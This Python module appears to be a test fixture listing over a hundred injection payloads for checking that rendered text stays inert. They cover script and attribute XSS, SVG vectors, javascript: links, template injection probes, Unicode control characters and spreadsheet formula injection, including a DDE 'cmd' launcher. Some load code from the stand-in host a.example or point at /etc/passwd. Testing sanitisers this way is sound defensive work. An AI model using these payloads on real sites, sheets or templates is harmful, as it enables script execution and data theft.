"""Text that tries to be more than text. Whatever runs sets window.pwned, asks for a file, or changes the page."""

from __future__ import annotations

RUN = "window.pwned=1"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=https://a.example/x.js></script>",
    "<script src=//a.example/x.js></script>",
    "<script type=module>import 'https://a.example/x.js'</script>",
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
    f"<template><script>{RUN}</script></template>",
)
ENDS = (
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><img src=x onerror={RUN}>",
    f'"}}]</script><script>{RUN}</script>',
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</td></tr></table><script>{RUN}</script>",
    f"<!--<script>{RUN}//-->",
    f"--><script>{RUN}</script>",
    "<!--",
    "<!-- <script>",
    f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<plaintext><script>{RUN}</script>",
)
ATTRIBUTES = (
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus tabindex=1 '",
    f"` onload={RUN} `",
    f'"><img src=x onerror={RUN}>',
    f"'><svg/onload={RUN}>",
    f"<img src=x onerror={RUN}>",
    f"<img src='x'onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>",
    '<p style="background:url(https://a.example/x.png)">',
    "<style>*{background:url(https://a.example/x.png)}</style>",
    "<link rel=stylesheet href=https://a.example/x.css>",
    "<base href=https://a.example/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<iframe srcdoc="<script>parent.pwned=1</script>">',
    f"<form action=javascript:{RUN}><button autofocus>x",
)
DRAWN = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x\"></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<foreignObject><iframe src=javascript:{RUN}></foreignObject>",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "https://a.example/?x",
    "//a.example/x",
    "file:///etc/passwd",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# x #}",
    "${window.pwned=1}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "%s%n%x %(x)s",
    "{0.__class__} {x!r:>{y}}",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "[link](javascript:window.pwned=1)",
    "[red]rich markup[/red]",
)
VEGA = (
    "datum.x",
    "datum['x']",
    "a.b[0]['c']",
    "a\\.b",
    '{"signal": "window.pwned=1"}',
    '{"expr": "window.pwned=1"}',
    '{"url": "https://a.example/x.csv"}',
    "signal: open('https://a.example')",
    "constructor.constructor('window.pwned=1')()",
    "event.view.eval('window.pwned=1')",
    "href",
    "__proto__",
    "toString",
    "$schema",
    "'+alert(1)+'",
    '"+window.pwned+"',
    "d3.format('.2f')",
)
UNSEEN = (
    "\u202eevil\u202c",
    "\u2066a\u2069\u200fb",
    "zero\u200bwidth\u200djoined",
    "soft\u00adhyphen",
    "nul\x00byte",
    "bell\x07escape\x1b[31m",
    "line\nbreak",
    "carriage\rreturn",
    "next\u2028line\u2029para",
    "\ufeffbom",
    "broken \ud800 pair",
    "combining e\u0301\u0323\u0323\u0323",
)
SHEETS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    '=HYPERLINK("https://a.example","x")',
)
PAYLOADS = (*SCRIPTS, *ENDS, *ATTRIBUTES, *DRAWN, *LINKS, *TEMPLATES, *VEGA, *UNSEEN, *SHEETS)
"""Over a hundred, all different."""


def in_a_file() -> tuple[str, ...]:
    """Those that a .csv can hold as a name or a label: UTF-8, printable on one line, no blank at either end."""
    return tuple(text for text in PAYLOADS if text.isprintable() and text == text.strip())


def as_file_names() -> tuple[str, ...]:
    """Those that a file can be called by."""
    return tuple(text for text in in_a_file() if "/" not in text and len(text.encode()) < 200)
